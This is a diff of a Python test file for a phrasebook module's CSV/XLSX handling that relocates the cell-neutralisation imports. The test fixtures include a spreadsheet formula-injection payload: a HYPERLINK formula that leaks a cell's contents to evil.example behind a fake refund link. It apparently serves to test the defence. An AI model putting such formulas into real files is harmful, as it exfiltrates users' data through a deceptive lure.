@@ -15,14 +15,8 @@ import pytest
 
 from chatassist.core.phrasebook import tabular
 from chatassist.core.phrasebook.model import Entry, Phrasebook, Variant
-from chatassist.core.phrasebook.tabular import (
-    neutralise_cell,
-    read_csv,
-    read_xlsx,
-    restore_cell,
-    write_csv,
-    write_xlsx,
-)
+from chatassist.core.phrasebook.tabular import read_csv, read_xlsx, write_csv, write_xlsx
+from chatassist.core.spreadsheet_cells import neutralise_cell, restore_cell
 
 WEAPONS = (
     '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your refund")',
